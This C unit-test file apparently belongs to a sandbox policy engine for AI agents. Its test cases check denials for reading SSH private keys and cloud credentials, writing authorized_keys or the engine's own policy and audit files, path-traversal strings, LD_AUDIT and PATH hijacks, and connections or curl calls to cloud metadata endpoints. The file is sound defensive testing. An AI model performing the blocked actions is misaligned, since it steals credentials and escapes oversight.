static void paths_are_judged_in_their_order(void **state)
{
	static const struct { enum action_kind kind; bool unresolved; const char *path, *expected, *tag; } cases[] = {
		/* kernel: writes */
		{ ACTION_WRITE, false, "/workspace/x", "aad", NULL }, { ACTION_WRITE, false, "/tmp/x", "aad", NULL },
		{ ACTION_WRITE, false, "/home/agent/x", "aad", NULL }, { ACTION_WRITE, false, "/etc/passwd", "ddd", "outside_root" },
		{ ACTION_WRITE, false, "/workspaces/x", "ddd", "outside_root" }, { ACTION_WRITE, false, "/home/agent/.ssh/authorized_keys", "ddd", "protected_path" },
		{ ACTION_WRITE, false, "/home/agent/.ssh", "ddd", "protected_path" }, { ACTION_WRITE, false, "/home/other/.aws/x", "ddd", "protected_path" },
		{ ACTION_WRITE, false, "/root/.ssh/x", "ddd", "protected_path" }, { ACTION_WRITE, false, "/home/agent/.sshx", "aad", NULL },
		{ ACTION_WRITE, false, "/run/cordon/launch.sock", "ddd", "protected_path" }, { ACTION_WRITE, false, "/run/docker.sock", "ddd", "protected_path" },
		{ ACTION_WRITE, false, "/etc/cordon/policies/policy.json", "ddd", "protected_path" },
		{ ACTION_WRITE, false, "/dev/null", "aaa", NULL }, { ACTION_WRITE, false, "/dev/pts/3", "aad", NULL }, { ACTION_WRITE, false, "/dev/sda1", "ddd", "policy_block" },
		{ ACTION_WRITE, false, "/dev/mem", "ddd", "policy_block" }, { ACTION_WRITE, false, "/dev/mapper/x", "ddd", "policy_block" },
		{ ACTION_WRITE, false, "/proc/sys/kernel/core_pattern", "ddd", "outside_root" },
		{ ACTION_WRITE, false, "relative", "ddd", "invalid_path" }, { ACTION_WRITE, false, "", "ddd", "invalid_path" }, { ACTION_WRITE, false, NULL, "ddd", "invalid_path" },
		/* kernel: reads */
		{ ACTION_READ, false, "/etc/passwd", "aaa", NULL }, { ACTION_READ, false, "/usr/lib/python3/token.py", "aaa", NULL }, { ACTION_READ, false, "/srv/x", "aad", NULL },
		{ ACTION_READ, false, "/home/agent/.ssh/id_rsa", "ddd", "protected_path" }, { ACTION_READ, false, "/var/lib/cordon/audit/x", "ddd", "protected_path" },
		{ ACTION_READ, false, "/workspace/.env", "aad", NULL }, { ACTION_READ, false, "/workspace/a", "aaa", NULL },
		/* tools' own names */
		{ ACTION_WRITE, true, "notes/today.md", "aad", NULL }, { ACTION_WRITE, true, "/workspace/x", "aad", NULL }, { ACTION_WRITE, true, "/tmp/x", "ddd", "outside_root" },
		{ ACTION_WRITE, true, "../x", "ddd", "outside_root" }, { ACTION_WRITE, true, "a/../../x", "ddd", "outside_root" }, { ACTION_WRITE, true, "a/../x", "ddd", "outside_root" },
		{ ACTION_WRITE, true, "~/x", "ddd", "outside_root" }, { ACTION_WRITE, true, "$HOME/x", "ddd", "outside_root" }, { ACTION_WRITE, true, "/etc/evil", "ddd", "protected_path" },
		{ ACTION_WRITE, true, "~/.ssh/x", "ddd", "protected_path" }, { ACTION_WRITE, true, ".env", "aad", NULL },
		{ ACTION_READ, true, "README.md", "aaa", NULL }, { ACTION_READ, true, "/tmp/notes.txt", "aad", NULL }, { ACTION_READ, true, "/etc/passwd", "ddd", "protected_path" },
		{ ACTION_READ, true, "/tmp/../etc/passwd", "ddd", "protected_path" }, { ACTION_READ, true, "~/.ssh/id_rsa", "ddd", "protected_path" },
		{ ACTION_READ, true, "~/notes", "ddd", "outside_root" }, { ACTION_READ, true, "$HOME/.ssh/id_rsa", "ddd", NULL }, { ACTION_READ, true, ".env.local", "ddd", "protected_path" },
		{ ACTION_READ, true, "../outside.txt", "aad", NULL }, { ACTION_READ, true, "a//./b", "aaa", NULL },
	};
	size_t i, m;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++)
		for (m = MODE_GUARDED; m < MODE_COUNT; m++) {
			const struct action action = { .kind = cases[i].kind, .unresolved = cases[i].unresolved, .path = cases[i].path, .cwd = "/workspace" };
			const struct decision d = ask((enum mode)m, &action);

			if (verdict_letter(d.verdict) != cases[i].expected[m - 1] ||
			    (m == MODE_GUARDED && cases[i].tag && strcmp(d.tag, cases[i].tag) != 0))
				fail_msg("%s %s%s %s: %s %s", mode_name((enum mode)m), cases[i].unresolved ? "typed " : "",
					 cases[i].kind == ACTION_READ ? "read" : "write", cases[i].path, d.tag ? d.tag : "-", d.reason);
		}
}

static void off_refuses_only_cordons_own(void **state)
{
	static const struct { enum action_kind kind; const char *path; char expected; } cases[] = {
		{ ACTION_WRITE, "/etc/passwd", 'a' }, { ACTION_WRITE, "/run/docker.sock", 'a' }, { ACTION_READ, "/root/.ssh/id_rsa", 'a' },
		{ ACTION_READ, "/run/cordon/launch.sock", 'd' }, { ACTION_WRITE, "/var/lib/cordon/audit/audit-000001.jsonl", 'd' },
		{ ACTION_WRITE, "/etc/cordon/policies/policy.json", 'd' }, { ACTION_READ, "/etc/cordon/trust/ca.pem", 'a' },
	};
	const struct action call = { .kind = ACTION_CALL, .call = "mount" }, typed = { .kind = ACTION_STDIN, .typed = "y", .typed_bytes = 1 };
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct action action = { .kind = cases[i].kind, .path = cases[i].path };

		assert_int_equal(verdict_letter(ask(MODE_OFF, &action).verdict), cases[i].expected);
	}
	assert_int_equal(ask(MODE_OFF, &call).verdict, VERDICT_ALLOW);
	assert_int_equal(ask(MODE_GUARDED, &call).verdict, VERDICT_DENY);
	assert_int_equal(ask(MODE_OFF, &typed).verdict, VERDICT_ALLOW);
}

static void skill_folders_are_read_and_never_written(void **state)
{
	static const struct { enum action_kind kind; bool unresolved; const char *path, *named, *expected; } cases[] = {
		{ ACTION_READ, false, "/opt/skills/a/SKILL.md", NULL, "aaa" }, { ACTION_READ, true, "/opt/skills/a/SKILL.md", NULL, "aaa" }, { ACTION_READ, false, "/opt/skills", NULL, "aaa" },
		{ ACTION_READ, false, "/home/agent/.agents/skills/x", NULL, "aaa" }, { ACTION_READ, true, "/home/agent/.agents/skills/x", NULL, "aaa" },
		{ ACTION_READ, true, "/usr/share/skills/x", NULL, "aaa" }, { ACTION_READ, true, "/usr/share/x", NULL, "ddd" },
		/* the folder's own name is the operator's */
		{ ACTION_READ, false, "/srv/token-skills/x", NULL, "aaa" }, { ACTION_READ, false, "/srv/token-skills/secret", NULL, "aad" },
		/* not in the folder, or not the launch user's */
		{ ACTION_READ, false, "/opt/skills2/x", NULL, "aad" }, { ACTION_READ, false, "/opt/x", NULL, "aad" }, { ACTION_READ, false, "/home/agent/.agents/x", NULL, "aad" },
		{ ACTION_READ, false, "/home/other/.agents/skills/x", NULL, "aad" }, { ACTION_READ, false, "/root/.agents/skills/x", NULL, "aad" },
		{ ACTION_READ, true, "/opt/skills/../x", NULL, "aad" }, { ACTION_READ, true, "/opt/skills/../skills/x", NULL, "aad" }, { ACTION_READ, true, "~/.agents/skills/x", NULL, "ddd" },
		{ ACTION_READ, false, "/opt/skills/.env", NULL, "aad" }, { ACTION_READ, false, "/opt/skills/a/.ssh/x", NULL, "aad" }, { ACTION_READ, true, "/opt/skills/.env", NULL, "ddd" },
		/* by a link in it */
		{ ACTION_READ, false, "/etc/passwd", "/opt/skills/link", "aad" }, { ACTION_READ, false, "/workspace/x", "/opt/skills/link", "aad" }, { ACTION_READ, false, "/etc/passwd", "/etc/passwd", "aaa" },
		{ ACTION_READ, false, "/opt/skills/b", "/opt/skills/link", "aaa" }, { ACTION_READ, false, "/opt/skills2/x", "/opt/skills/link", "aad" },
		{ ACTION_READ, false, "/etc/passwd", "/workspace/link", "aad" }, { ACTION_READ, false, "/opt/skills/b", "/workspace/link", "aaa" }, { ACTION_READ, false, "/workspace/b", "/workspace/link", "aaa" },
		{ ACTION_READ, false, "/home/agent/.ssh/id_rsa", "/opt/skills/link", "ddd" }, { ACTION_READ, false, "/etc/passwd", "/home/agent/.agents/skills/l", "aad" },
		{ ACTION_WRITE, false, "/opt/skills/x", NULL, "ddd" }, { ACTION_WRITE, false, "/home/agent/.agents/skills/x", NULL, "ddd" }, { ACTION_WRITE, false, "/tmp/skills/x", NULL, "ddd" },
		{ ACTION_WRITE, false, "/home/agent/.agents/x", NULL, "aad" },
	};
	static const struct { const char *text; char expected; } texts[] = {
		{ "cat /opt/skills/a/SKILL.md", 'a' }, { "grep -rn x /home/agent/.agents/skills", 'a' }, { "cat /opt/skills/../x", 'd' }, { "cat ~/.agents/skills/x", 'a' }, { "cat ~/.agents/x", 'd' }, { "cat ~other/.agents/skills/x", 'd' }, { "cat /opt/skills/.env", 'd' },
		{ "cat /opt/skills2/x", 'd' }, { "sh /opt/skills/x.sh", 'd' }, { "/opt/skills/x", 'd' }, { "cat /opt/skills/x > /opt/skills/y", 'd' }, { "rm /opt/skills/x", 'd' },
	};
	const char *folders[] = { "~/.agents/skills", "/opt/skills", "/srv/token-skills", "/usr/share/skills", "/tmp/skills" };
	const struct strings before = policy->paths.skills;
	struct action action;
	size_t i;

	(void)state;
	action = (struct action){ .kind = ACTION_READ, .path = "/opt/skills/x" };
	assert_string_equal(ask(MODE_READONLY, &action).tag, "outside_root");
	policy->paths.skills = (struct strings){ .items = folders, .nr = ARRAY_SIZE(folders) };
	for (i = 0; i < ARRAY_SIZE(cases); i++)
		for (unsigned m = MODE_GUARDED; m < MODE_COUNT; m++) {
			struct decision d;

			action = (struct action){ .kind = cases[i].kind, .unresolved = cases[i].unresolved, .path = cases[i].path, .named = cases[i].named, .cwd = "/workspace" };
			d = ask((enum mode)m, &action);
			if (verdict_letter(d.verdict) != cases[i].expected[m - 1])
				fail_msg("%s %s by %s: %s", mode_name((enum mode)m), cases[i].path, cases[i].named ? cases[i].named : "-", d.reason);
		}
	for (i = 0; i < ARRAY_SIZE(texts); i++) {
		struct decision d = ask_text(MODE_READONLY, texts[i].text, NULL);

		if (verdict_letter(d.verdict) != texts[i].expected)
			fail_msg("%s: %s", texts[i].text, d.reason);
	}
	policy->paths.roots = ROOTS_STRICT;
	action = (struct action){ .kind = ACTION_READ, .path = "/opt/skills/x" };
	assert_int_equal(ask(MODE_GUARDED, &action).verdict, VERDICT_ALLOW);
	policy->paths.roots = ROOTS_STANDARD;
	policy->paths.skills = before;
}

static void roots_are_a_second_axis(void **state)
{
	struct action action = { .kind = ACTION_READ, .unresolved = true, .path = "/srv/data", .cwd = "/workspace" };
	const char *blocked[] = { "/workspace/private", NULL };
	const enum root_style before = policy->paths.roots;

	(void)state;
	assert_int_equal(ask(MODE_GUARDED, &action).verdict, VERDICT_ALLOW);
	policy->paths.roots = ROOTS_STRICT;
	assert_string_equal(ask(MODE_GUARDED, &action).tag, "outside_root");
	action.path = "/workspace/x";
	assert_int_equal(ask(MODE_GUARDED, &action).verdict, VERDICT_ALLOW);
	policy->paths.roots = before;

	policy->paths.blocked_roots = (struct strings){ .items = blocked, .nr = 1 };
	action.path = "/workspace/private/x";
	assert_string_equal(ask(MODE_GUARDED, &action).tag, "blocked_root");
	action = (struct action){ .kind = ACTION_WRITE, .path = "/workspace/private/x" };
	assert_string_equal(ask(MODE_GUARDED, &action).tag, "blocked_root");
	policy->paths.blocked_roots.nr = 0;

	/* the switch is guarded's only, and opens the write roots to a tool's own writes; what programs write the kernel holds to those anyway */
	policy->paths.confine_writes = false;
	action.path = "/srv/x";
	assert_string_equal(ask(MODE_GUARDED, &action).tag, "outside_root");
	action.unresolved = true;
	assert_string_equal(ask(MODE_GUARDED, &action).tag, "outside_root");
	action.path = "/tmp/x";
	assert_int_equal(ask(MODE_GUARDED, &action).verdict, VERDICT_ALLOW);
	assert_string_equal(ask(MODE_OBSERVE, &action).tag, "outside_root");
	policy->paths.confine_writes = true;
	assert_string_equal(ask(MODE_GUARDED, &action).tag, "outside_root");
	policy->paths.confine_writes = false;
	action.unresolved = false;
	action.path = "/home/agent/.ssh/x";
	assert_int_equal(ask(MODE_GUARDED, &action).verdict, VERDICT_DENY);
	policy->paths.confine_writes = true;
}

/* ---- network ---- */

static struct decision connect_as(struct judge_subject subject, const char *address, uint16_t port, bool agent_listens, const struct scope *scope)
{
	struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons(port) };
	struct sockaddr_in6 in6 = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
	struct action action = { .kind = ACTION_CONNECT, .socket_type = SOCK_STREAM, .agent_listens = agent_listens };
	struct decision d;

	if (inet_pton(AF_INET, address, &in.sin_addr) == 1) {
		action.address = (const struct sockaddr *)&in;
		action.address_bytes = sizeof(in);
	} else {
		assert_int_equal(inet_pton(AF_INET6, address, &in6.sin6_addr), 1);
		action.address = (const struct sockaddr *)&in6;
		action.address_bytes = sizeof(in6);
	}
	subject.scope = scope;
	judge(policy, &subject, &action, &d);
	check_form(&d);
	return d;
}

static struct decision connect_to(enum mode mode, const char *address, uint16_t port, bool agent_listens, const struct scope *scope)
{
	return connect_as(subject_in(mode), address, port, agent_listens, scope);
}

static void addresses_are_judged_in_every_spelling(void **state)
{
	static const struct { const char *address; uint16_t port; const char *expected, *rule; } cases[] = {
		{ "1.1.1.1", 443, "aad", "network.public" }, { "2606:4700:4700::1111", 443, "aad", "network.public" }, { "::ffff:1.1.1.1", 80, "aad", "network.public" },
		{ "127.0.0.1", 48080, "aad", "network.port" }, { "::ffff:127.0.0.1", 48080, "aad", "network.port" }, { "127.0.0.2", 48080, "ddd", "network.loopback" },
		{ "127.0.0.1", 80, "ddd", "network.loopback" }, { "::1", 48080, "ddd", "network.loopback_ipv6" }, { "0.0.0.0", 48080, "ddd", "network.this_host" },
		{ "::", 80, "ddd", "network.unspecified" }, { "1.1.1.1", 48080, "aad", "network.public" },
		{ "10.1.2.3", 80, "ddd", "network.private_10" }, { "172.16.0.1", 80, "ddd", "network.private_172" }, { "172.31.255.255", 80, "ddd", "network.private_172" },
		{ "172.32.0.1", 80, "aad", "network.public" }, { "192.168.1.1", 80, "ddd", "network.private_192" }, { "100.64.0.1", 80, "ddd", "network.shared" },
		{ "100.63.255.255", 80, "aad", "network.public" }, { "169.254.1.1", 80, "ddd", "network.link_local" }, { "198.18.0.1", 80, "ddd", "network.benchmark" },
		{ "198.51.100.7", 80, "ddd", "network.documentation_2" }, { "203.0.113.7", 80, "ddd", "network.documentation_3" }, { "224.0.0.1", 80, "ddd", "network.multicast" },
		{ "255.255.255.255", 80, "ddd", "network.reserved" }, { "192.88.99.1", 80, "ddd", "network.relay" },
		{ "fe80::1", 80, "ddd", "network.link_local_ipv6" }, { "febf::1", 80, "ddd", "network.link_local_ipv6" }, { "fd00::1", 80, "ddd", "network.unique_local" },
		{ "ff02::1", 80, "ddd", "network.multicast_ipv6" }, { "2001:db8::1", 80, "ddd", "network.documentation_ipv6" },
		{ "::ffff:10.0.0.1", 80, "ddd", "network.private_10" }, { "::10.0.0.1", 80, "ddd", "network.private_10" },
		{ "64:ff9b::1.2.3.4", 80, "ddd", "network.translated" }, { "64:ff9b::10.0.0.1", 80, "ddd", "network.private_10" },
		{ "2002:7f00:1::", 80, "ddd", "network.loopback" }, { "2002:101:101::", 80, "ddd", "network.6to4" },
		{ "2001:0:1:2:3:4:80ff:fffe", 80, "ddd", "network.loopback" }, { "2001::1", 80, "ddd", NULL },
		/* metadata, also inside others */
		{ "169.254.169.254", 80, "ddd", "network.metadata" }, { "::ffff:169.254.169.254", 80, "ddd", "network.metadata" },
		{ "64:ff9b::169.254.169.254", 80, "ddd", "network.metadata" }, { "2002:a9fe:a9fe::1", 80, "ddd", "network.metadata" },
		{ "fd00:ec2::254", 80, "ddd", "network.metadata_ipv6" }, { "2001:0:1:2:3:4:5601:5601", 80, "ddd", "network.metadata" },
	};
	size_t i, m;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++)
		for (m = MODE_OFF; m < MODE_COUNT; m++) {
			const struct decision d = connect_to((enum mode)m, cases[i].address, cases[i].port, false, NULL);
			const char expected = m == MODE_OFF ? 'a' : cases[i].expected[m - 1];

			if (verdict_letter(d.verdict) != expected || (m == MODE_GUARDED && cases[i].rule && strcmp(d.rule, cases[i].rule) != 0))
				fail_msg("%s %s %u: %s %s", mode_name((enum mode)m), cases[i].address, cases[i].port, d.rule, d.reason);
		}
}

static void listeners_of_agents_are_reached_on_loopback_only(void **state)
{
	(void)state;
	assert_int_equal(connect_to(MODE_GUARDED, "127.0.0.1", 8000, true, NULL).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "127.1.2.3", 8000, true, NULL).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "::1", 8000, true, NULL).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "0.0.0.0", 8000, true, NULL).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "10.0.0.1", 8000, true, NULL).verdict, VERDICT_DENY);
	assert_int_equal(connect_to(MODE_GUARDED, "169.254.169.254", 80, true, NULL).verdict, VERDICT_DENY);
	assert_int_equal(connect_to(MODE_GUARDED, "64:ff9b::127.0.0.1", 80, true, NULL).verdict, VERDICT_DENY);
	assert_int_equal(connect_to(MODE_READONLY, "127.0.0.1", 8000, true, NULL).verdict, VERDICT_DENY);
}

/* Its own scope takes away, and gives nothing that the launch would not have without it. */
static void a_launch_narrows_the_scope_and_never_widens_it(void **state)
{
	static const struct { const char *declared, *own, *address; uint16_t port; char expected; } cases[] = {
		{ "10.0.0.0/8", "", "10.1.2.3", 80, 'a' }, { "10.0.0.0/8", "10.1.0.0/16", "10.1.2.3", 80, 'a' }, { "10.0.0.0/8", "10.1.0.0/16", "10.2.2.3", 80, 'd' },
		{ "10.0.0.0/8", "10.1.2.3:443", "10.1.2.3", 80, 'd' }, { "10.0.0.0/8", "10.1.2.3:443", "10.1.2.3", 443, 'a' },
		{ "10.1.0.0/16", "10.0.0.0/8", "10.2.2.3", 80, 'd' }, { "10.1.0.0/16", "192.0.2.1", "192.0.2.1", 80, 'd' }, { "10.1.0.0/16", "shop.test", "10.1.2.3", 80, 'd' },
		{ "", "10.0.0.0/8", "10.1.2.3", 80, 'd' }, { "", "1.1.1.1", "1.1.1.1", 80, 'a' }, { "", "1.1.1.1", "1.1.1.2", 80, 'd' },
		{ "", "169.254.169.254", "169.254.169.254", 80, 'd' }, { "", "127.0.0.1", "127.0.0.1", 80, 'd' },
		{ "", "1.1.1.1", "127.0.0.1", 48080, 'a' },	/* the proxy */
		{ "", "1.1.1.1", "::ffff:1.1.1.1", 80, 'a' },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct scope declared, own;
		struct judge_subject subject = subject_in(MODE_GUARDED);

		assert_int_equal(scope_parse(cases[i].declared, &declared, NULL), 0);
		assert_int_equal(scope_parse(cases[i].own, &own, NULL), 0);
		subject.narrowed = &own;
		if (verdict_letter(connect_as(subject, cases[i].address, cases[i].port, false, &declared).verdict) != cases[i].expected)
			fail_msg("declared %s, own %s: %s %u", cases[i].declared, cases[i].own, cases[i].address, cases[i].port);
		scope_free(&declared);
		scope_free(&own);
	}
}

/* Names in texts: what is in its own scope is no more than it was without one. */
static void a_narrowed_launch_asks_for_nothing_else(void **state)
{
	static const struct { const char *declared, *own, *text, *expected; } cases[] = {	/* guarded, observe */
		{ "a.test,b.test", "", "curl http://a.test/", "aa" }, { "a.test,b.test", "a.test", "curl http://a.test/", "aa" }, { "a.test,b.test", "a.test", "curl http://b.test/", "rd" },
		{ "a.test", "*", "curl http://b.test/", "rd" }, { "a.test", "b.test", "curl http://b.test/", "rd" }, { "", "a.test", "curl http://a.test/", "rr" },
		{ "", "a.test", "curl http://b.test/", "rd" }, { "a.test", "a.test:443", "curl http://a.test:80/", "rd" }, { "10.0.0.0/8", "10.1.0.0/16", "curl http://10.2.0.1/", "rd" },
		{ "", "metadata.google.internal", "curl http://metadata.google.internal/", "dd" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct scope declared, own;
		char got[3] = "";

		assert_int_equal(scope_parse(cases[i].declared, &declared, NULL), 0);
		assert_int_equal(scope_parse(cases[i].own, &own, NULL), 0);
		for (int m = 0; m < 2; m++) {
			struct arena arena = { .data = arena_block, .len_bytes = sizeof(arena_block) };
			struct judge_subject subject = { .mode = m ? MODE_OBSERVE : MODE_GUARDED, .home = "/home/agent", .scope = &declared, .narrowed = &own, .arena = &arena };
			const char *argv[] = { cases[i].text, NULL };
			struct action action = { .kind = ACTION_EXEC, .argv = argv, .shell_text = true, .cwd = "/workspace" };
			struct decision d;

			judge(policy, &subject, &action, &d);
			got[m] = verdict_letter(d.verdict);
		}
		if (strcmp(got, cases[i].expected) != 0)
			fail_msg("declared %s, own %s: %s is %s", cases[i].declared, cases[i].own, cases[i].text, got);
		scope_free(&declared);
		scope_free(&own);
	}
}

static void limits_of_a_launch_only_tighten(void **state)
{
	static const struct { enum root_style has; enum mode mode; const char *scope, *roots; int expected; bool strict; const char *says; } cases[] = {
		{ ROOTS_STANDARD, MODE_GUARDED, NULL, NULL, 0, false, "" }, { ROOTS_STRICT, MODE_GUARDED, NULL, NULL, 0, true, "" },
		{ ROOTS_STANDARD, MODE_GUARDED, NULL, "strict", 0, true, "" }, { ROOTS_OPEN, MODE_OBSERVE, NULL, "standard", 0, false, "" },
		{ ROOTS_STANDARD, MODE_GUARDED, NULL, "open", -EPERM, false, "never loosen" }, { ROOTS_STRICT, MODE_GUARDED, NULL, "standard", -EPERM, true, "never loosen" },
		{ ROOTS_STANDARD, MODE_GUARDED, NULL, "workspace", -EINVAL, false, "\"strict\"" }, { ROOTS_STANDARD, MODE_GUARDED, NULL, "", -EINVAL, false, "expected" },
		{ ROOTS_STANDARD, MODE_OFF, NULL, NULL, 0, false, "" }, { ROOTS_STANDARD, MODE_OFF, NULL, "strict", -EPERM, true, "mode off" },
		{ ROOTS_STANDARD, MODE_OFF, "a.test", NULL, -EPERM, false, "mode off" }, { ROOTS_STANDARD, MODE_GUARDED, "a.test", NULL, 0, false, "" },
		{ ROOTS_STANDARD, MODE_GUARDED, "", NULL, -EINVAL, false, "at least one" }, { ROOTS_STANDARD, MODE_GUARDED, " , ", NULL, -EINVAL, false, "at least one" },
		{ ROOTS_STANDARD, MODE_GUARDED, "a b", NULL, -EINVAL, false, "a b" },
	};
	const enum root_style before = policy->paths.roots;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct launch_limits limits = { cases[i].scope, cases[i].roots };
		struct scope scope;
		struct err e = { 0 };
		bool strict;
		int r;

		policy->paths.roots = cases[i].has;
		r = judge_launch_limits(policy, cases[i].mode, &limits, &scope, &strict, &e);
		if (r != cases[i].expected || (r == 0 && strict != cases[i].strict) || !strstr(e.text, cases[i].says))
			fail_msg("case %zu: %d %d \"%s\"", i, r, strict, e.text);
		assert_int_equal(scope.nr, r == 0 && cases[i].scope ? 1 : 0);
		scope_free(&scope);
	}
	policy->paths.roots = before;
}

static void a_declared_scope_is_all_there_is(void **state)
{
	struct scope scope;
	struct err e = { 0 };

	(void)state;
	assert_int_equal(scope_parse(" target.test, 10.1.0.0/16,192.0.2.7:8443, [2001:db8::1]:443, fd00::/8, 169.254.169.254 ", &scope, &e), 0);
	assert_int_equal(scope.nr, 6);
	assert_string_equal(scope.entries[0].name, "target.test");
	assert_int_equal(connect_to(MODE_GUARDED, "10.1.2.3", 80, false, &scope).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "::ffff:10.1.2.3", 80, false, &scope).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "10.2.0.1", 80, false, &scope).verdict, VERDICT_DENY);
	assert_int_equal(connect_to(MODE_GUARDED, "192.0.2.7", 8443, false, &scope).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "192.0.2.7", 80, false, &scope).verdict, VERDICT_DENY);
	assert_int_equal(connect_to(MODE_GUARDED, "2001:db8::1", 443, false, &scope).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "fd12::1", 1, false, &scope).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "1.1.1.1", 80, false, &scope).verdict, VERDICT_DENY);
	assert_int_equal(connect_to(MODE_GUARDED, "127.0.0.1", 48080, false, &scope).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_to(MODE_GUARDED, "169.254.169.254", 80, false, &scope).verdict, VERDICT_DENY);
	assert_int_equal(connect_to(MODE_READONLY, "10.1.2.3", 80, false, &scope).verdict, VERDICT_DENY);
	scope_free(&scope);
	assert_int_equal(scope_parse("", &scope, &e), 0);
	assert_int_equal(scope.nr, 0);
	assert_int_equal(connect_to(MODE_GUARDED, "1.1.1.1", 80, false, &scope).verdict, VERDICT_ALLOW);
	scope_free(&scope);
}

static void a_scope_that_cannot_be_read_is_an_error(void **state)
{
	static const char *const bad[] = { "300.1.1.1", "10.0.0.0/33", "10.0.0.0/-1", "a b", "a:0", "a:65536", "a:x", "[::1", "[a]:1", "a/8", "::1/129", "x,,y/", "http://a", "a:+1" };
	struct scope scope;
	struct err e;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(bad); i++) {
		e = (struct err){ 0 };
		if (scope_parse(bad[i], &scope, &e) != -EINVAL)
			fail_msg("%s was taken for a scope", bad[i]);
		assert_non_null(strstr(e.text, "scope"));
	}
}

static struct decision connect_raw(enum mode mode, const void *address, socklen_t bytes, const char *path, const char *cwd)
{
	const struct action action = { .kind = ACTION_CONNECT, .address = address, .address_bytes = bytes, .path = path, .cwd = cwd };

	return ask(mode, &action);
}

static void other_families_and_malformed_addresses(void **state)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX, .sun_path = "/run/docker.sock" };
	struct sockaddr_in in = { .sin_family = AF_UNSPEC };
	struct sockaddr_in6 in6 = { .sin6_family = AF_INET6 };
	const struct sockaddr packet = { .sa_family = AF_PACKET }, netlink = { .sa_family = AF_NETLINK };

	(void)state;
	assert_string_equal(connect_raw(MODE_GUARDED, NULL, 0, NULL, NULL).tag, "invalid_request");
	assert_string_equal(connect_raw(MODE_GUARDED, &in, 1, NULL, NULL).tag, "invalid_request");
	assert_int_equal(connect_raw(MODE_GUARDED, &in, 2, NULL, NULL).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_raw(MODE_GUARDED, &in, sizeof(in), NULL, NULL).verdict, VERDICT_ALLOW);
	/* what UDP's sendto() takes for an IPv4 address */
	in.sin_addr.s_addr = htonl(0x0a000001);
	assert_string_equal(connect_raw(MODE_GUARDED, &in, sizeof(in), NULL, NULL).rule, "network.private_10");
	in.sin_family = AF_INET;
	assert_string_equal(connect_raw(MODE_GUARDED, &in, 15, NULL, NULL).tag, "invalid_request");
	in6.sin6_addr = (struct in6_addr)IN6ADDR_LOOPBACK_INIT;
	assert_string_equal(connect_raw(MODE_GUARDED, &in6, 24, NULL, NULL).tag, "network_guard");
	assert_string_equal(connect_raw(MODE_GUARDED, &in6, 23, NULL, NULL).tag, "invalid_request");
	assert_string_equal(connect_raw(MODE_GUARDED, &packet, sizeof(packet), NULL, NULL).tag, "network_guard");
	assert_int_equal(connect_raw(MODE_GUARDED, &netlink, sizeof(netlink), NULL, NULL).verdict, VERDICT_ALLOW);

	assert_string_equal(connect_raw(MODE_GUARDED, &un, sizeof(un), NULL, NULL).tag, "protected_path");
	assert_int_equal(connect_raw(MODE_OFF, &un, sizeof(un), "/run/docker.sock", NULL).verdict, VERDICT_ALLOW);
	assert_string_equal(connect_raw(MODE_OFF, &un, sizeof(un), "/run/cordon/control.sock", NULL).tag, "protected_path");
	assert_string_equal(connect_raw(MODE_GUARDED, &un, sizeof(un), "/home/agent/.gnupg/S.gpg-agent", NULL).tag, "protected_path");
	assert_int_equal(connect_raw(MODE_GUARDED, &un, sizeof(un), "/workspace/s", NULL).verdict, VERDICT_ALLOW);
	assert_int_equal(connect_raw(MODE_READONLY, &un, sizeof(un), "/workspace/s", NULL).verdict, VERDICT_DENY);
	/* by the name alone: relative ones need a folder, an unterminated one is read to its end */
	strcpy(un.sun_path, "docker.sock");
	assert_string_equal(connect_raw(MODE_GUARDED, &un, sizeof(un), NULL, "/run").tag, "protected_path");
	assert_string_equal(connect_raw(MODE_GUARDED, &un, sizeof(un), NULL, NULL).tag, "invalid_path");
	memset(un.sun_path, 'a', sizeof(un.sun_path));
	assert_int_equal(connect_raw(MODE_GUARDED, &un, sizeof(un), NULL, "/tmp").verdict, VERDICT_ALLOW);
	memset(un.sun_path, 0, sizeof(un.sun_path));
	assert_string_equal(connect_raw(MODE_GUARDED, &un, sizeof(un), NULL, NULL).rule, "network.unix_abstract");
	assert_string_equal(connect_raw(MODE_GUARDED, &un, sizeof(un), "@x", NULL).rule, "network.unix_abstract");
}

/* ---- environment, stdin, settling ---- */

static void names_set_by_text_are_judged_more_strictly_than_at_an_exec(void **state)
{
	static const struct { const char *text; char expected; } cases[] = {
		{ "PATH=/x", 'd' }, { "PATH", 'd' }, { "IFS=,", 'd' }, { "GIT_PAGER=x", 'd' }, { "http_proxy=x", 'd' }, { "LD_AUDIT=x", 'd' },
		{ "PYTHONPATH=/workspace", 'd' }, { "PYTHONPATH=/opt/image", 'a' }, { "FOO=bar", 'a' }, { "LANG=C", 'a' }, { "PATH=/usr/bin:/bin", 'a' },
		{ "=x", 'd' }, { "", 'd' }, { NULL, 'd' }, { "A B=c", 'd' }, { "CI=1", 'a' },
	};
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct action action = { .kind = ACTION_ENVIRONMENT, .text = cases[i].text };
		const struct decision d = ask(MODE_GUARDED, &action);

		if (verdict_letter(d.verdict) != cases[i].expected)
			fail_msg("%s: %s", cases[i].text, d.reason);
	}
}

